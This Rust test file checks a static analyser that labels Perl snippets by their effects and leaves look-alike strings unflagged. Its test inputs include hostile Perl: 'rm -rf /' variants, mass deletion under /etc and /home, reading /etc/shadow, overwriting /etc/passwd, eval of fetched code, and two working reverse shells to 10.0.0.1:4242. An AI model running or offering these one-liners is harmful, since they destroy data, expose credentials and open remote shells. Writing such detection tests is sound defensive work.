// SPDX-License-Identifier: Apache-2.0 OR MIT

use super::check;

#[test]
fn programs() {
    check(
        "perl",
        &[
            (r#"system("rm -rf /")"#, "shell rm -rf /"),
            (r#"system "rm", "-rf", "/";"#, "start rm|-rf|/"),
            (r"exec 'id' or die;", "shell id"),
            ("print `id`;", "shell id"),
            ("my $x = qx(rm -rf /);", "shell rm -rf /"),
            (r#"my $d = "/etc"; system("rm -rf $d/x");"#, "shell rm -rf /etc/x"),
            (r#"system("rm -rf $ENV{HOME}/x");"#, "shell rm -rf ~/x"),
            (r"system('rm -rf ' . $ENV{'HOME'});", "shell rm -rf ~"),
            (r"system(qw(rm -rf /));", "start rm|-rf|/"),
            (r"system(@ARGV);", "shell *?"),
            (r#"open(F, "ls |"); open(my $h, '-|', 'id');"#, "shell ls; shell id"),
            (r#"eval "unlink 'x'";"#, "delete x"),
            ("eval $x;", "runs-unknown"),
            ("eval { system('id') };", "shell id"),
            ("use LWP::Simple; eval get('http://x.io');", "connect http://x.io; runs-fetched"),
            ("eval join '', <STDIN>;", "runs-input"),
            (
                r#"use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};"#,
                "connect tcp://10.0.0.1:4242; shell /bin/sh -i; reverse-shell",
            ),
            (
                r#"use IO::Socket; $c=IO::Socket::INET->new(PeerAddr => "10.0.0.1", PeerPort => 4242); exec "/bin/sh";"#,
                "connect tcp://10.0.0.1:4242; shell /bin/sh; reverse-shell",
            ),
        ],
    );
}

#[test]
fn files() {
    check(
        "perl",
        &[
            (r#"unlink "a", "b";"#, "delete a; delete b"),
            (r#"unlink glob "~/*";"#, "delete ~/*#"),
            ("unlink <~/*>;", "delete ~/*#"),
            ("unlink for glob('/etc/*');", "delete /etc/*#"),
            ("unlink $_ for <x/*.o>;", "delete x/*.o#"),
            ("foreach my $f (glob('/home/*')) { unlink $f; }", "delete /home/*#"),
            ("map { unlink $_ } ('a', 'b');", "delete a; delete b"),
            (r#"use File::Path; rmtree("/x"); File::Path::remove_tree('y');"#, "delete! /x; delete! y"),
            (r#"use File::Find; find(sub { unlink $_ }, "/");"#, "delete! /**#"),
            (r#"open(my $f, '>', '/etc/passwd') or die; print $f "x";"#, "write /etc/passwd"),
            (r#"open(F, ">>$ENV{HOME}/.bashrc");"#, "append ~/.bashrc"),
            (r"open(F, '/etc/shadow'); print <F>;", "read /etc/shadow"),
            (
                r"rename 'a', '/b'; chmod 0777, '/etc/x'; rmdir 'c';",
                "move a; write /b; permit /etc/x; delete c",
            ),
        ],
    );
}

#[test]
fn what_only_looks_like_it() {
    check(
        "perl",
        &[
            (r#"print "rm -rf /\n";"#, ""),
            ("# system('rm')", ""),
            ("s/system('x')/unlink('y')/g;", ""),
            ("print if m{unlink('x')};", ""),
            ("while (<>) { print if /foo/ }", ""),
            ("$x = q(system('rm'));", ""),
            ("my %h = (system => 1, unlink => 2); print $h{unlink};", ""),
            ("=pod\n\nsystem('rm')\n\n=cut\nprint 1;", ""),
            ("print 1; __END__\nsystem('rm')", ""),
            ("s{a}{b}; tr/a-z/A-Z/; y/a/b/; print;", ""),
            ("my $n = $a / $b; my $m = $c / 2;", ""),
            ("print <<EOT;\nsystem('rm')\nEOT\nprint 1;", ""),
            ("delete $h{x}; push @a, 'unlink';", ""),
            (r"open(my $f, '<', 'README.md');", "read README.md"),
        ],
    );
}
